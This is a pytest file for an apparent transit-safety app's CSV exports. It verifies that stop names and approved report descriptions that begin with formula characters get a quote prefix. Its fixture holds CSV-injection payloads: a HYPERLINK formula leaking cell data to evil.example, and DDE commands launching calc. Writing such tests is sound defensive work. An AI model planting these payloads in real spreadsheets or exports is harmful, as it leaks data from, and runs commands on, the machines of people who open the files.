"""Stop names from an imported feed and approved descriptions never reach a CSV as formulas."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import UTC, datetime
from pathlib import Path

import pytest
from geoalchemy2.elements import WKTElement

from streetsafe.hotspots.formats import csv_cell
from streetsafe.hotspots.seeding import StopRef, new_report
from streetsafe.models import Neighbourhood, ReportDescription, Stop
from streetsafe.team.service import create_team
from streetsafe.transit.gtfs import import_gtfs

from .conftest import bearer

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "gtfs_no_shapes"
EVIL_NAMES = {
    "A": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "B": "+cmd|' /C calc'!A0",
    "C": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LATLON = {"A": (53.0, -1.0), "B": (53.0, -0.99), "C": (53.01, -0.99)}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def evil_feed(tmp_path, connection) -> Path:
    """The small GTFS fixture with stop names that are spreadsheet formulas, imported."""
    folder = tmp_path / "evil"
    shutil.copytree(FIXTURE, folder)
    with (folder / "stops.txt").open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["stop_id", "stop_name", "stop_lat", "stop_lon"])
        for stop_id, (lat, lon) in {
            "A": (53.0, -1.0),
            "B": (53.0, -0.99),
            "C": (53.01, -0.99),
        }.items():
            writer.writerow([stop_id, EVIL_NAMES[stop_id], lat, lon])
    import_gtfs(connection, folder, "evil")
    return folder


@pytest.fixture
def evil_reports(evil_feed, db_session) -> str:
    """Six reports at each evil stop, one with an approved formula description; a team's token."""
    hood = Neighbourhood(
        code="EVIL",
        name="Evil",
        geom=WKTElement(
            "MULTIPOLYGON(((-1.01 52.99, -0.98 52.99, -0.98 53.02, -1.01 52.99)))", 4326
        ),
    )
    db_session.add(hood)
    db_session.flush()
    stops = db_session.query(Stop).filter(Stop.public_id.like("evil:%")).all()
    assert sorted(s.name for s in stops) == sorted(EVIL_NAMES.values())
    first = None
    for stop in stops:
        lat, lon = LATLON[stop.source_id]
        for _ in range(6):
            report = new_report(
                lon=lon, lat=lat, categories=["badly_lit"], resolutions=(7, 8, 9, 10),
                occurred_at=datetime(2026, 3, 7, 20, 30, tzinfo=UTC), context="at_stop",
                mode="bus", stop=StopRef(stop.id, stop.public_id, stop.name),
                neighbourhood_id=hood.id,
            )  # fmt: skip
            db_session.add(report)
            db_session.flush()
            first = first or report.id
    text = "-2+3 people followed me"
    db_session.add(ReportDescription(report_id=first, body=text, scrubbed=text, status="approved"))
    token = create_team(db_session, "Evil watch", ["EVIL"])
    db_session.commit()
    return token


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_neutral(body: str) -> None:
    cells = _cells(body)
    assert cells, "empty CSV"
    bad = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert bad == []


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/hotspots/stops?format=csv",
        "/api/v1/hotspots/route-segments?format=csv",
    ],
)
def test_public_csv_neutralises_formula_names(client, evil_reports, path) -> None:
    response = client.get(path)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    _assert_neutral(body)
    if "stops" in path:
        assert "'" + EVIL_NAMES["A"] in _cells(body)


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/team/hotspots/stops?format=csv",
        "/api/v1/team/hotspots/route-segments?format=csv",
        "/api/v1/team/hotspots/cells?format=csv",
        "/api/v1/team/reports?format=csv",
    ],
)
def test_team_csv_neutralises_formula_names_and_descriptions(client, evil_reports, path) -> None:
    response = client.get(path, headers=bearer(evil_reports))
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    _assert_neutral(body)
    if "reports" in path:
        cells = _cells(body)
        assert "'-2+3 people followed me" in cells
        assert "'" + EVIL_NAMES["B"] in cells


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Stop 1 = main", "Stop 1 = main"),
        (-0.35, -0.35),
        (5, 5),
        (None, None),
    ],
)
def test_csv_cell(value, cell) -> None:
    assert csv_cell(value) == cell
